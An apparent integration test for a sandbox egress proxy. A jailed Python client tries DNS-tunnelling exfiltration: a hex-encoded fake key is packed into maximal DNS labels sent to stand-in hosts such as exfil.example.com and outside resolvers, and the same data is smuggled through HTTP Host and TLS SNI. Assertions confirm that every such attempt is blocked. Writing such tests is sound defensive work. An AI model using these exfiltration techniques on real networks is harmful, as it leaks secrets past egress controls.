#!/usr/bin/env bash
# Exfiltration through DNS: the sandbox encodes data in names (63-byte labels,
# 253-byte names, TXT/AAAA/MX/ANY/NULL queries, over UDP and TCP, to the responder
# and to outside resolver addresses, IPv4 and IPv6) and then in connection names
# (TLS SNI, HTTP Host, synthetic addresses) under egress default deny. Longer names
# (a 64-byte label, a 254-byte name) are refused outright. Nothing may reach a
# resolver: the responder never forwards, and the proxy never resolves a denied
# name. The host is a namespace of the test's own whose resolver logs every query
# and whose output hook counts every packet to port 53 and off the host.
#
#   jail (lo only)                 host stand-in $HNS (lo, default via lo)
#   exfil client --nft--> proxy --getaddrinfo--> fake_resolver 127.0.0.1:53 (logs)
#                                  nft counters: dns_udp, dns_tcp, offhost
. "$(dirname "$0")/../integration/lib.sh"
. "$(dirname "$0")/adv_lib.sh"

host_ns_start --answer watch.test=127.0.0.1
hupstream up
cat > "$T/config.json" <<EOF
{ "egress": { "default": "deny", "allow": ["allowed.example.com"] },
  "dns": { "remap": { "allowed.example.com": "allowed.watch.test:$up_PORT",
                      "denied.example.com": "denied.watch.test:$up_PORT" } } }
EOF

cat > "$T/client.py" <<'PYEOF'
import socket, ssl, struct, sys
sys.path.insert(0, sys.argv[1])
import advlib

secret = "4f70656e41492d6b65792d736b2d70726f6a2d616263646566676869"  # hex "data"
l63 = (secret * 3)[:63]
name253 = ".".join([l63, l63, l63, l63[:61]])          # 63+1+63+1+63+1+61 = 253
name254 = ".".join([l63, l63, l63, l63[:62]])          # 254: one byte too many
label64 = (secret * 2)[:64] + ".exfil.example.com"
assert len(name253) == 253 and len(name254) == 254

def udp(name, qtype=1, server=("127.0.0.53", 53), wire=None):
    fam = socket.AF_INET6 if ":" in server[0] else socket.AF_INET
    s = socket.socket(fam, socket.SOCK_DGRAM)
    s.settimeout(1)
    try:
        s.sendto(advlib.dns_query(name, qtype, wire_name=wire), server)
        rcode, addrs = advlib.dns_answer_summary(s.recv(4096))
        return {"rcode": rcode, "addrs": addrs}
    except socket.timeout:
        return {"rcode": "none", "addrs": []}
    finally:
        s.close()

def tcp(name, qtype=1, server=("127.0.0.53", 53)):
    s = socket.create_connection(server, timeout=3)
    q = advlib.dns_query(name, qtype)
    try:
        s.sendall(struct.pack("!H", len(q)) + q)
        n = struct.unpack("!H", s.recv(2))[0]
        msg = b""
        while len(msg) < n:
            msg += s.recv(n - len(msg))
        rcode, addrs = advlib.dns_answer_summary(msg)
        return {"rcode": rcode, "addrs": addrs}
    except (socket.timeout, struct.error, ConnectionError):
        return {"rcode": "none", "addrs": []}
    finally:
        s.close()

advlib.emit("udp_label63", **udp(l63 + ".exfil.example.com"))
advlib.emit("udp_name253", **udp(name253))
advlib.emit("udp_name254", **udp(name254, wire=b"".join(
    bytes([len(x)]) + x.encode() for x in name254.split(".")) + b"\x00"))
advlib.emit("udp_label64", **udp(label64))
for qt, qn in ((16, "txt"), (28, "aaaa"), (15, "mx"), (255, "any"), (10, "null")):
    advlib.emit("udp_" + qn, **udp(l63 + "." + qn + ".exfil.example.com", qt))
advlib.emit("tcp_name253", **tcp(name253))
advlib.emit("udp_outside_v4", **udp(l63 + ".outside.example.com", server=("192.0.2.53", 53)))
advlib.emit("tcp_outside_v4", **tcp(l63 + ".outside-tcp.example.com", server=("192.0.2.53", 53)))
advlib.emit("udp_v6", **udp(l63 + ".v6.example.com", server=("::1", 53)))
advlib.emit("udp_outside_v6", **udp(l63 + ".outside6.example.com", server=("2001:db8::53", 53)))

# Connections naming the data: by synthetic address, by SNI, by Host.
addr = udp(name253)["addrs"][0]
advlib.emit("http_synthetic", **advlib.exchange(addr, 80,
    b"GET / HTTP/1.1\r\nHost: " + name253.encode() + b"\r\nConnection: close\r\n\r\n"))
advlib.emit("http_host_addr_flow", **advlib.exchange("203.0.113.9", 80,
    b"GET / HTTP/1.1\r\nHost: " + name253.encode() + b"\r\nConnection: close\r\n\r\n"))
ctx = ssl.create_default_context()
ctx.check_hostname = False
try:
    with socket.create_connection(("203.0.113.9", 443), timeout=5) as s:
        with ctx.wrap_socket(s, server_hostname=name253) as t:
            t.sendall(b"GET / HTTP/1.1\r\nHost: " + name253.encode() + b"\r\nConnection: close\r\n\r\n")
            head = t.recv(4096).split(b"\r\n")
            advlib.emit("tls_sni_addr_flow", status=head[0].decode(), reason=[
                h.split(b":", 1)[1].strip().decode() for h in head
                if h.lower().startswith(b"x-authproxy-error")][0])
except (OSError, ssl.SSLError) as e:
    advlib.emit("tls_sni_addr_flow", status="", reason=type(e).__name__)
advlib.emit("denied_remapped", **advlib.exchange("denied.example.com", 80,
    b"GET / HTTP/1.1\r\nHost: denied.example.com\r\nConnection: close\r\n\r\n"))
advlib.emit("allowed", **advlib.exchange("allowed.example.com", 80,
    b"GET /control HTTP/1.1\r\nHost: allowed.example.com\r\nConnection: close\r\n\r\n"))
PYEOF

hjail --config "$T/config.json" --user nobody -- "$PY" "$T/client.py" "$TOOLS" > "$T/out.jsonl"
load_results "$T/out.jsonl"

# The responder answers exfil-sized names from its synthetic table, and refuses what
# DNS itself does not allow.
for c in udp_label63 udp_name253 tcp_name253 udp_outside_v4 tcp_outside_v4 udp_v6 udp_outside_v6; do
  assert_eq "$(result "$T/out.jsonl" "$c" rcode)" "0" "$c: rcode"
  case "$(result "$T/out.jsonl" "$c" addrs)" in
    '["198.1'[89]*) ;;
    *) fail "$c: expected one synthetic address, got $(result "$T/out.jsonl" "$c" addrs)" ;;
  esac
done
for c in udp_name254 udp_label64; do
  case "$(result "$T/out.jsonl" "$c" rcode)" in
    none|1) ;;  # dropped as malformed, or FORMERR
    *) fail "$c: a name DNS does not allow was answered: $(result "$T/out.jsonl" "$c" rcode)" ;;
  esac
done
for c in udp_txt udp_aaaa udp_mx udp_any udp_null; do
  assert_eq "$(result "$T/out.jsonl" "$c" addrs)" "[]" "$c: answer records"
done
pass "63-byte labels and 253-byte names answered locally; 64-byte labels and 254-byte names refused"

# Under default deny every connection naming the data is refused...
for c in http_synthetic http_host_addr_flow denied_remapped; do
  assert_contains "$(result "$T/out.jsonl" "$c" status)" " 403 " "$c: status"
  assert_eq "$(result "$T/out.jsonl" "$c" reason)" "egress_not_allowed" "$c: reason"
done
assert_contains "$(result "$T/out.jsonl" tls_sni_addr_flow status)" " 403 " "SNI flow status"
assert_eq "$(result "$T/out.jsonl" tls_sni_addr_flow reason)" "egress_not_allowed" "SNI flow reason"
assert_contains "$(result "$T/out.jsonl" allowed status)" " 200 " "the allowed control request"
pass "connections named by the data denied (synthetic address, Host, SNI, a remapped name)"

# ...and nothing left: the only names ever resolved are the allowed one's remap
# target (the control, which shows the watch works), the only port-53 traffic is
# those lookups, and nothing went off the host.
assert_eq "$(resolved 'sorted(set(q["name"] for q in qs))')" "$(jlist allowed.watch.test)" \
  "names the proxy resolved"
assert_eq "$(host_counter dns_udp)" "$(resolved 'len([q for q in qs if q["transport"] == "udp"])')" \
  "UDP datagrams to port 53 other than the proxy's own lookups"
assert_eq "$(host_counter dns_tcp)" "0" "TCP connections to port 53 from the host"
assert_eq "$(host_counter offhost)" "0" "packets that left the host"
assert_eq "$(upq up 'sorted(r["path"] for r in reqs)')" "$(jlist /control)" "upstream requests"
pass "no query forwarded, denied names never resolved, nothing left the host"
